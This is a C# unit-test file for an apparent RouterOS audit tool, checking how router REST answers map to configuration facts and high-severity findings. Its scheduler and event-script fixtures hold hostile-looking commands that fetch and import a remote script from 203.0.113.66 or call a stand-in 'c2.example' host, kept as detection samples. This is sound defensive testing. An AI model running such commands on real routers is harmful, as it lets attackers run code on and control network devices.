using System.Security.Cryptography;
using System.Text;
using FlaxGuard.Engine.Json;
using FlaxGuard.Engine.Probes;
using FlaxGuard.Engine.Probes.RouterOs;

namespace FlaxGuard.Engine.Tests.RouterOs;

/// <summary>The RouterOS answer shape check and the mapping from REST items to facts, on answers written out by hand.</summary>
[TestClass]
public sealed class RouterOsFactsTests
{
    private static JsonValue Parse(string json) => RouterOsAnswers.Parse(json);

    private static Dictionary<string, string> Facts(RouterOsFactBuffer buffer) => RouterOsAnswers.Facts(buffer);

    [TestMethod]
    public void Shape_AcceptsRouterOsLists_AndRefusesOtherTypes()
    {
        Assert.IsNull(RouterOsShape.ListProblem(Parse("[]")));
        Assert.IsNull(RouterOsShape.ListProblem(Parse("[{\".id\":\"*1\",\"name\":\"admin\"}]")));
        Assert.AreEqual("item 2 has \"port\" as a JSON number; RouterOS sends every value as a string",
            RouterOsShape.ListProblem(Parse("[{\"port\":\"22\"},{\"port\":22}]")));
        Assert.AreEqual("item 1 is a string, not an object", RouterOsShape.ListProblem(Parse("[\"x\"]")));
        Assert.AreEqual("a list of items was expected, but the answer is an object", RouterOsShape.ListProblem(Parse("{}")));
        Assert.AreEqual("item 1 has \"disabled\" as null; RouterOS sends every value as a string", RouterOsShape.ListProblem(Parse("[{\"disabled\":null}]")));
    }

    [TestMethod]
    public void Shape_SingletonIsAnObject_OrAOneItemArray()
    {
        Assert.IsNotNull(RouterOsShape.Singleton(Parse("{\"version\":\"7.1\"}"), out var problem));
        Assert.IsNull(problem);
        Assert.AreEqual("7.1", RouterOsShape.Field(RouterOsShape.Singleton(Parse("[{\"version\":\"7.1\"}]"), out _)!, "version"));
        Assert.IsNull(RouterOsShape.Singleton(Parse("[]"), out problem));
        Assert.AreEqual("one settings object was expected, but the answer is a list of 0 items", problem);
        Assert.IsNull(RouterOsShape.Singleton(Parse("{\"enabled\":true}"), out problem));
        Assert.AreEqual("the settings has \"enabled\" as a JSON boolean; RouterOS sends every value as a string", problem);
    }

    [TestMethod]
    public void Resource_GivesFirmwareFacts_WithoutVolatileValues()
    {
        var facts = new RouterOsFactBuffer();
        Assert.IsNull(RouterOsSystemFacts.FromResource(Parse(
            "{\"architecture-name\":\"ARM64\",\"board-name\":\"CHR\",\"build-time\":\"2024-04-17 12:47:58\",\"cpu-load\":\"3\",\"free-memory\":\"1\",\"uptime\":\"1d\",\"version\":\"7.14.3 (stable)\"}"), facts));
        CollectionAssert.AreEquivalent(new Dictionary<string, string>
        {
            ["fw.vendor"] = "mikrotik", ["fw.model"] = "CHR", ["fw.version"] = "7.14.3", ["fw.build"] = "2024-04-17 12:47:58",
            ["routeros.channel"] = "stable", ["routeros.architecture"] = "arm64",
        }.ToList(), Facts(facts).ToList());

        Assert.AreEqual("it does not say which RouterOS version runs", RouterOsSystemFacts.FromResource(Parse("{\"board-name\":\"CHR\"}"), new RouterOsFactBuffer()));
        StringAssert.Contains(RouterOsSystemFacts.FromResource(Parse("{\"version\":\"stable\"}"), new RouterOsFactBuffer()), "is not a RouterOS version");
    }

    [TestMethod]
    public void Packages_OnlyEnabledExtras()
    {
        var facts = new RouterOsFactBuffer();
        Assert.IsNull(RouterOsSystemFacts.FromPackages(Parse(
            "[{\"name\":\"routeros\",\"version\":\"7.14.3\",\"disabled\":\"false\"},{\"name\":\"container\",\"version\":\"7.14.3\",\"disabled\":\"true\"}," +
            "{\"name\":\"iot\",\"version\":\"\",\"disabled\":\"true\",\"available\":\"true\"},{\"name\":\"wifi-qcom\",\"version\":\"7.14.3\",\"disabled\":\"false\"}]"), facts));
        CollectionAssert.AreEquivalent(new[] { "routeros.package.wifi-qcom" }, Facts(facts).Keys.ToList());
        StringAssert.Contains(RouterOsSystemFacts.FromPackages(Parse("[{\"name\":\"x\",\"disabled\":\"maybe\"}]"), facts), "neither true nor false");
    }

    [TestMethod]
    public void Packages_OfAnotherVersionOrANameMikroTikDoesNotPublish_AreHighVerdictsWithoutABaseline()
    {
        var facts = new RouterOsFactBuffer();
        Assert.IsNull(RouterOsSystemFacts.FromResource(Parse("{\"version\":\"7.22.1 (stable)\",\"build-time\":\"2026-03-23 14:35:15\"}"), facts));
        Assert.IsNull(RouterOsSystemFacts.FromPackages(Parse(
            "[{\"name\":\"routeros\",\"version\":\"7.22.1\",\"disabled\":\"false\"},{\"name\":\"container\",\"version\":\"7.22.1\",\"disabled\":\"false\"}," +
            "{\"name\":\"wifi-qcom\",\"version\":\"7.21.3\",\"disabled\":\"false\"},{\"name\":\"socksify\",\"version\":\"7.22.1\",\"disabled\":\"false\"}," +
            "{\"name\":\"evil\",\"version\":\"1.0\",\"disabled\":\"true\"}]"), facts));
        var result = Facts(facts);
        Assert.AreEqual("7.21.3", result["routeros.package-mismatch.wifi-qcom"]);
        Assert.AreEqual("7.22.1", result["routeros.package-unlisted.socksify"]);
        Assert.IsFalse(result.ContainsKey("routeros.package-unlisted.container"), "a published package");
        Assert.IsFalse(result.ContainsKey("routeros.package-unlisted.evil"), "a disabled package does not run");
        var verdicts = facts.Verdicts.Cast<FlaxGuard.Engine.Verdicts.Verdict>().ToList();
        CollectionAssert.AreEquivalent(new[] { "routeros.package-mismatch", "routeros.package.unlisted" }, verdicts.Select(v => v.Code).ToArray());
        Assert.IsTrue(verdicts.All(v => v.Severity == FlaxGuard.Engine.Verdicts.Severity.High));
        StringAssert.Contains(verdicts.Single(v => v.Code == "routeros.package.unlisted").Message, "socksify");

        // RouterOS 6 split the system into packages this list does not cover: nothing is called unlisted there.
        var v6 = new RouterOsFactBuffer();
        Assert.IsNull(RouterOsSystemFacts.FromResource(Parse("{\"version\":\"6.49.22 (long-term)\"}"), v6));
        Assert.IsNull(RouterOsSystemFacts.FromPackages(Parse("[{\"name\":\"advanced-tools\",\"version\":\"6.49.22\",\"disabled\":\"false\"}]"), v6));
        Assert.IsEmpty(v6.Verdicts);
    }

    [TestMethod]
    public void Users_SkipDisabledAccounts_AndLowerTheGroup()
    {
        var facts = new RouterOsFactBuffer();
        Assert.IsNull(RouterOsAccessFacts.FromUsers(Parse(
            "[{\"name\":\"admin\",\"group\":\"Full\",\"disabled\":\"false\",\"last-logged-in\":\"2026-11-27 03:00:00\"},{\"name\":\"old\",\"group\":\"full\",\"disabled\":\"true\"},{\"name\":\"a b=c\",\"group\":\"read\",\"disabled\":\"no\"}]"), null, facts));
        // Without a group list, only "full" administers the router.
        CollectionAssert.AreEquivalent(new Dictionary<string, string> { ["cfg.user.admin"] = "full", ["cfg.admin.admin"] = "full", ["cfg.user.a%20b%3Dc"] = "read" }.ToList(), Facts(facts).ToList());
        Assert.IsNotNull(RouterOsAccessFacts.FromUsers(Parse("[{\"name\":\"x\"}]"), null, new RouterOsFactBuffer()));
    }

    [TestMethod]
    public void SshKeys_UseTheFingerprint_OrTheOlderAttributes()
    {
        var blob = Encoding.ASCII.GetBytes("lab key blob");
        var hash = SHA256.HashData(blob);
        var fingerprint = "SHA256:" + Convert.ToBase64String(hash).TrimEnd('=');
        var facts = new RouterOsFactBuffer();
        Assert.IsNull(RouterOsAccessFacts.FromSshKeys(Parse(
            "[{\".id\":\"*1\",\"user\":\"admin\",\"key-type\":\"ED25519\",\"bits\":\"256\",\"fingerprint\":\"" + fingerprint + "\",\"info\":\"a@b\"}," +
            "{\".id\":\"*2\",\"user\":\"backup\",\"key-type\":\"rsa\",\"RSA\":\"false\",\"key-owner\":\"backup@nas\"}]"), facts));
        var result = Facts(facts);
        Assert.AreEqual("admin ed25519", result["cfg.sshkey." + Convert.ToHexStringLower(hash)[..16]]);
        Assert.AreEqual("backup rsa", result["cfg.sshkey." + SshKeyDigest.FromAttributes("backup", "rsa", "", "backup@nas")]);
        Assert.HasCount(2, result);
        StringAssert.Contains(RouterOsAccessFacts.FromSshKeys(Parse("[{\"user\":\"a\",\"fingerprint\":\"MD5:aa\"}]"), new RouterOsFactBuffer()), "not an OpenSSH SHA256 fingerprint");
    }

    [TestMethod]
    public void Services_ReportEnabledOnes_AndRemoteWhenNotLocalOnly()
    {
        var facts = new RouterOsFactBuffer();
        Assert.IsNull(RouterOsAccessFacts.FromServices(Parse(
            "[{\".id\":\"*0\",\"name\":\"telnet\",\"port\":\"23\",\"address\":\"\",\"disabled\":\"true\"}," +
            "{\".id\":\"*1\",\"name\":\"ssh\",\"port\":\"22\",\"address\":\" 192.168.88.0/24 , FD00::/8 \",\"disabled\":\"false\"}," +
            "{\".id\":\"*2\",\"name\":\"Winbox\",\"port\":\"8291\",\"address\":\"\",\"disabled\":\"no\"}," +
            "{\".id\":\"*3\",\"name\":\"www\",\"port\":\"80\",\"address\":\"192.168.88.0/24,198.51.100.7\",\"disabled\":\"false\"}," +
            "{\".id\":\"*9\",\"name\":\"reverse-proxy\",\"port\":\"443\",\"address\":\"\",\"disabled\":\"false\",\"dynamic\":\"true\"}]"), facts));
        CollectionAssert.AreEquivalent(new Dictionary<string, string>
        {
            ["cfg.service.ssh"] = "port=22 from=192.168.88.0/24,fd00::/8",
            ["cfg.service.winbox"] = "port=8291 from=any",
            ["cfg.remote.winbox"] = "port=8291 from=any",
            ["cfg.service.www"] = "port=80 from=192.168.88.0/24,198.51.100.7",
            ["cfg.remote.www"] = "port=80 from=192.168.88.0/24,198.51.100.7",
        }.ToList(), Facts(facts).ToList());
        StringAssert.Contains(RouterOsAccessFacts.FromServices(Parse("[{\"name\":\"ssh\",\"port\":\"99999\",\"disabled\":\"false\"}]"), new RouterOsFactBuffer()), "not a port number");
    }

    [TestMethod]
    public void Dns_ServersRemoteRequestsAndDoh()
    {
        var facts = new RouterOsFactBuffer();
        Assert.IsNull(RouterOsNetworkFacts.FromDns(Parse(
            "{\"servers\":\"198.51.100.53, 2001:DB8::53\",\"dynamic-servers\":\"198.51.100.1\",\"allow-remote-requests\":\"yes\",\"use-doh-server\":\"https://doh.example/dns-query\",\"cache-used\":\"12\"}"), facts));
        CollectionAssert.AreEquivalent(new Dictionary<string, string>
        {
            ["cfg.dns.server.198.51.100.53"] = "configured",
            ["cfg.dns.server.2001:db8::53"] = "configured",
            ["cfg.dns.remote-requests"] = "on",
            ["cfg.dns.doh"] = "https://doh.example/dns-query",
        }.ToList(), Facts(facts).ToList());
        Assert.IsNotNull(RouterOsNetworkFacts.FromDns(Parse("{\"servers\":\"\"}"), new RouterOsFactBuffer()));
    }

    [TestMethod]
    public void Nat_OnlyStaticEnabledDstNat_AndTwoRulesForOnePortKeepBothTargets()
    {
        var facts = new RouterOsFactBuffer();
        Assert.IsNull(RouterOsNetworkFacts.FromNat(Parse(
            "[{\"chain\":\"srcnat\",\"action\":\"masquerade\",\"bytes\":\"1\"}," +
            "{\"chain\":\"dstnat\",\"action\":\"dst-nat\",\"protocol\":\"TCP\",\"dst-port\":\"8443\",\"to-addresses\":\"100.64.88.21\",\"to-ports\":\"443\",\"in-interface\":\"ether2\",\"disabled\":\"false\"}," +
            "{\"chain\":\"dstnat\",\"action\":\"dst-nat\",\"protocol\":\"tcp\",\"dst-port\":\"8443\",\"to-addresses\":\"100.64.88.20\",\"to-ports\":\"443\",\"in-interface\":\"ether1\",\"disabled\":\"false\"}," +
            "{\"chain\":\"dstnat\",\"action\":\"dst-nat\",\"protocol\":\"udp\",\"dst-port\":\"51820\",\"to-addresses\":\"100.64.88.22\",\"disabled\":\"false\"}," +
            "{\"chain\":\"dstnat\",\"action\":\"dst-nat\",\"protocol\":\"tcp\",\"dst-port\":\"80\",\"to-addresses\":\"100.64.88.9\",\"disabled\":\"true\"}," +
            "{\"chain\":\"dstnat\",\"action\":\"dst-nat\",\"protocol\":\"tcp\",\"dst-port\":\"6000\",\"to-addresses\":\"100.64.88.30\",\"dynamic\":\"true\",\"comment\":\"upnp\"}," +
            "{\"chain\":\"dstnat\",\"action\":\"redirect\",\"protocol\":\"udp\",\"dst-port\":\"53\",\"to-ports\":\"53\"}]"), facts));
        CollectionAssert.AreEquivalent(new Dictionary<string, string>
        {
            ["cfg.forward.tcp.8443"] = "100.64.88.20:443,100.64.88.21:443",
            ["cfg.forward.udp.51820"] = "100.64.88.22:51820",
        }.ToList(), Facts(facts).ToList());
    }

    [TestMethod]
    public void Scheduler_FetchFoundInTheScriptItRuns()
    {
        var facts = new RouterOsFactBuffer();
        var sources = RouterOsTaskFacts.FromScripts(Parse(
            "[{\"name\":\"sys-update\",\"source\":\"/tool fetch url=\\\"http://203.0.113.66/u.rsc\\\"; /import u.rsc\"},{\"name\":\"backup\",\"source\":\"/system backup save\"}]"), facts, out var problem);
        Assert.IsNotNull(sources, problem);
        var fetches = new System.Collections.ArrayList();
        Assert.IsNull(RouterOsTaskFacts.FromSchedulers(Parse(
            "[{\"name\":\"u\",\"interval\":\"00:05:00\",\"on-event\":\"/system script run sys-update\",\"disabled\":\"false\",\"run-count\":\"4\",\"next-run\":\"x\"}," +
            "{\"name\":\"b\",\"interval\":\"1d00:00:00\",\"on-event\":\"backup\",\"disabled\":\"false\"}," +
            "{\"name\":\"direct\",\"interval\":\"\",\"on-event\":\"/tool fetch url=https://c2.example/x\",\"disabled\":\"false\"}," +
            "{\"name\":\"off\",\"interval\":\"1m\",\"on-event\":\"/tool fetch url=https://c2.example/x\",\"disabled\":\"true\"}]"), sources, facts, fetches));
        RouterOsTaskFacts.AddFetches(fetches, null, facts);
        var result = Facts(facts);
        Assert.AreEqual("203.0.113.66", result["cfg.scheduler.u.fetch"]);
        Assert.AreEqual("c2.example", result["cfg.scheduler.direct.fetch"]);
        Assert.IsFalse(result.ContainsKey("cfg.scheduler.b.fetch"));
        Assert.IsFalse(result.ContainsKey("cfg.scheduler.off"));
        StringAssert.StartsWith(result["cfg.scheduler.direct"], "0s ");
        StringAssert.StartsWith(result["cfg.scheduler.u"], "00:05:00 ");
        Assert.AreEqual(RouterOsText.ScriptDigest("/system backup save"), result["cfg.script.backup"]);
        Assert.HasCount(7, result);
    }

    [TestMethod]
    public void EventScripts_OnlySetOnesOfEnabledEntries_WithWhatTheyFetch()
    {
        var facts = new RouterOsFactBuffer();
        var sources = RouterOsTaskFacts.FromScripts(Parse(
            "[{\"name\":\"sys-update\",\"source\":\"/tool fetch url=\\\"http://203.0.113.66/u.rsc\\\"; /import u.rsc\"}]"), facts, out var problem);
        Assert.IsNotNull(sources, problem);
        var fetches = new System.Collections.ArrayList();
        Assert.IsNull(RouterOsTaskFacts.FromEventScripts(Parse(
            "[{\"name\":\"default\",\"on-up\":\"\",\"on-down\":\"\"},{\"name\":\"vpn\",\"on-up\":\"\",\"on-down\":\"/system script run sys-update\"}]"),
            "ppp-profile", "name", "on-up", "on-down", sources, facts, fetches));
        Assert.IsNull(RouterOsTaskFacts.FromEventScripts(Parse(
            "[{\"name\":\"defconf\",\"lease-script\":\":log info $leaseActIP\",\"disabled\":\"false\"},{\"name\":\"guest\",\"lease-script\":\"/tool fetch url=https://c2.example/x\",\"disabled\":\"true\"}]"),
            "dhcp-server", "name", "lease-script", null, sources, facts, fetches));
        Assert.IsNull(RouterOsTaskFacts.FromEventScripts(Parse("[{\"interface\":\"ether1\",\"disabled\":\"false\"}]"),
            "dhcp-client", "interface", "script", null, sources, facts, fetches), "a client without a script gives nothing");
        StringAssert.Contains(RouterOsTaskFacts.FromEventScripts(Parse("[{\"interface\":\"\",\"script\":\":log info x\"}]"),
            "dhcp-client", "interface", "script", null, sources, facts, fetches), "has no interface");
        RouterOsTaskFacts.AddFetches(fetches, null, facts);
        var result = Facts(facts);
        CollectionAssert.AreEquivalent(new[] { "cfg.script.sys-update", "cfg.event.ppp-profile.vpn", "cfg.event.ppp-profile.vpn.fetch", "cfg.event.dhcp-server.defconf" },
            result.Keys.ToArray());
        Assert.AreEqual("203.0.113.66", result["cfg.event.ppp-profile.vpn.fetch"], "through the script the on-down runs");
    }

    [TestMethod]
    public void Proxies_OnlyWhileEnabled()
    {
        var facts = new RouterOsFactBuffer();
        Assert.IsNull(RouterOsNetworkFacts.FromSocks(Parse("{\"enabled\":\"false\",\"port\":\"1080\"}"), facts));
        Assert.IsNull(RouterOsNetworkFacts.FromWebProxy(Parse("{\"enabled\":\"true\",\"port\":\"8080\",\"parent-proxy\":\"198.51.100.3\"}"), facts));
        Assert.IsNull(RouterOsNetworkFacts.FromSocks(Parse("{\"enabled\":\"yes\",\"port\":\"4153\",\"version\":\"5\",\"auth-method\":\"NONE\"}"), facts));
        CollectionAssert.AreEquivalent(new Dictionary<string, string>
        {
            ["cfg.proxy.web"] = "port=8080 parent=198.51.100.3",
            ["cfg.proxy.socks"] = "port=4153 version=5 auth=none",
        }.ToList(), Facts(facts).ToList());
        Assert.IsNotNull(RouterOsNetworkFacts.FromSocks(Parse("{\"port\":\"1080\"}"), new RouterOsFactBuffer()));
    }

    [TestMethod]
    public void ContentType_MustBeJson()
    {
        Assert.IsTrue(RouterOsRestClient.IsJson("application/json"));
        Assert.IsTrue(RouterOsRestClient.IsJson("Application/JSON; charset=utf-8"));
        Assert.IsFalse(RouterOsRestClient.IsJson("text/html"));
        Assert.IsFalse(RouterOsRestClient.IsJson(null));
        Assert.IsFalse(RouterOsRestClient.IsJson("application/jsonp"));
    }
}
